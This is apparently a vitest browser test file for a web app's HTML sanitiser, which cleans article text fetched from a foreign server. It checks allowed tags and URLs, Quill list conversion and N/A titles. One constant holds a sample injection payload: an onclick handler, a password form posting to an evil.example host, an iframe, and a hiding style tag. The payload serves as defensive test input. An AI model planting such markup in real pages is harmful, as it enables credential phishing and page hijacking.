import { expect, test } from "vitest";
import { page } from "vitest/browser";
import { ATTACKS, SCRIPT_ATTACKS } from "../../../tests/support/attacks.ts";
import { expectNone } from "../../../tests/support/components/actions.ts";
import { openPage } from "../../../tests/support/components/application.tsx";
import {
	storeForeignSession,
	stubForeignServer,
	untilIdle,
} from "../../../tests/support/components/foreign.ts";
import { cleanArticle } from "./clean-article.ts";

/** Expects that nothing runs, that only links leave the page, and that only pictures are loaded. */
function expectHarmless(html: string): void {
	const parsed = new DOMParser().parseFromString(html, "text/html");
	for (const element of parsed.querySelectorAll("head *, body *")) {
		expect(element.localName).toMatch(
			/^(h[1-6]|p|blockquote|ol|ul|li|strong|b|em|i|u|s|strike|del|a|img|br)$/,
		);
		for (const { name, value } of element.attributes) {
			expect(name).toMatch(/^(href|rel|target|class|src|alt|role|width|height)$/);
			if (name === "class") expect(value).toMatch(/^ql-/);
			const address = value.replace(/[\0-\x20]/g, "");
			if (name === "href") expect(address).toMatch(/^(https?:|mailto:|tel:|[^:]*$|[/#?])/i);
			if (name === "src") expect(address).toMatch(/^(https?:|data:image\/|\/(?!\/)|$)/i);
		}
	}
}

test.each([...ATTACKS.map(([attack]) => attack), ...SCRIPT_ATTACKS])("%s is harmless", (attack) => {
	const clean = cleanArticle(attack);
	expectHarmless(clean);
	expect(cleanArticle(clean)).toBe(clean);
});

test.each([
	"<h1>One</h1><h6>Six</h6><blockquote>Why?</blockquote>",
	"<p><strong>a</strong><b>b</b><em>c</em><i>d</i><u>e</u><s>f</s><strike>g</strike><del>h</del></p>",
	"<ol><li>one</li><li>two<ul><li>inner</li></ul></li></ol>",
	'<p class="ql-align-center ql-indent-3">both</p>',
	'<p><a href="https://example.org/a?b=1&amp;c=2">web</a> <a href="mailto:a@b.example">m</a></p>',
	'<p><a href="http://example.org" rel="noopener noreferrer" target="_blank">new</a></p>',
	'<p><a href="/projects/water-pump">here</a> <a href="#method">below</a></p>',
	'<p><img src="https://example.org/a.png" alt="A pump" width="16" height="9"></p>',
	'<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="" role="presentation"><br></p>',
	"<p>2 &lt; 3 &amp; 5 &gt; 4, Gĩkũyũ 🌞</p>",
])("%s is not changed", (html) => expect(cleanArticle(html)).toBe(html));

test.each([
	[
		"<ol><li data-list='bullet'>a</li><li data-list='bullet'>b</li></ol>",
		"<ul><li>a</li><li>b</li></ul>",
	],
	[
		"<ol><li data-list='bullet'>a</li><li data-list='ordered'>b</li><li>c</li></ol>",
		"<ul><li>a</li></ul><ol><li>b</li><li>c</li></ol>",
	],
	["<ol><li data-list='checked'>a</li></ol>", "<ul><li>a</li></ul>"],
	[
		"<ol><li data-list='bullet' class='ql-indent-1'><span class='ql-ui'></span>a</li></ol>",
		'<ul><li class="ql-indent-1">a</li></ul>',
	],
	[
		"<ul><li>a<ol><li data-list='bullet'>b</li></ol></li></ul><ol><li>c</li></ol>",
		"<ul><li>a<ul><li>b</li></ul></li></ul><ol><li>c</li></ol>",
	],
	["<p><li data-list='bullet'>a</li></p>", "<p></p><li>a</li><p></p>"],
])("a Quill list, whose items have a kind each, is split by kind: %s", (quill, clean) => {
	expect(cleanArticle(quill)).toBe(clean);
	expect(cleanArticle(clean)).toBe(clean);
});

const HOSTILE =
	"<h2 style='position:fixed' onclick='x()'>All about it</h2><form action='//evil.example'>" +
	"<input name='password'><button>Sign in</button></form><iframe src='https://evil.example'></iframe>" +
	"<style>main{display:none}</style><p class='btn ql-align-center' id='main'>A line</p>";

test.each([
	["a project's page", "/projects/foreign-windmill"],
	["a project that staff read", "/dashboard/projects/11"],
	["the form of a project", "/dashboard/projects/11/edit"],
])("the text of another server is cleaned before it is shown: %s", async (_, address) => {
	const foreign = stubForeignServer((body) =>
		body.replaceAll("<p>All about the Foreign Windmill.</p>", HOSTILE),
	);
	if (address.startsWith("/dashboard")) storeForeignSession();
	await openPage(address);
	await untilIdle(foreign.calls);
	const article = page.getByRole("main").getByText("A line");
	await expect.element(article).toBeVisible();
	await expectNone(page.getByRole("button", { name: "Sign in", exact: true }));
	expect(article.element().matches("#main, .btn")).toBe(false);
	expect(
		document.querySelector("main :is(iframe, [style*=fixed], input[name=password])"),
	).toBeNull();
});

const UNTITLED = [undefined, null, "", "  "];

/** A server that sends this title in every record. */
const stubTitles = (title: string | null | undefined) =>
	stubForeignServer((body) =>
		JSON.stringify(JSON.parse(body), (name, value) => (name === "title" ? title : value)),
	);

test.each(
	UNTITLED.flatMap((title) =>
		[
			...["/", "/projects", "/projects/foreign-windmill", "/order/foreign-windmill"],
			...["/results", "/results/61"],
		].map((address) => [title, address] as const),
	),
)("a record with the title %j is shown as N/A on %s", async (title, address) => {
	const foreign = stubTitles(title);
	await openPage(address);
	await untilIdle(foreign.calls);
	await expect
		.element(page.getByRole("main").getByRole("heading", { name: "N/A", exact: true }).first())
		.toBeVisible();
});

test("the form of a project without a title has an empty title, not N/A", async () => {
	const foreign = stubTitles(null);
	storeForeignSession();
	await openPage("/dashboard/projects/11");
	await untilIdle(foreign.calls);
	await expect.element(page.getByRole("heading", { name: "N/A" })).toBeVisible();
	await openPage("/dashboard/projects/11/edit");
	await untilIdle(foreign.calls);
	await expect.element(page.getByLabelText("Title", { exact: true })).toHaveValue("");
});

test.each(UNTITLED)("a photo with the title %j is shown as N/A", async (title) => {
	const foreign = stubTitles(title);
	await openPage("/gallery");
	await untilIdle(foreign.calls);
	await expect.element(page.getByRole("link", { name: "N/A", exact: true }).first()).toBeVisible();
});
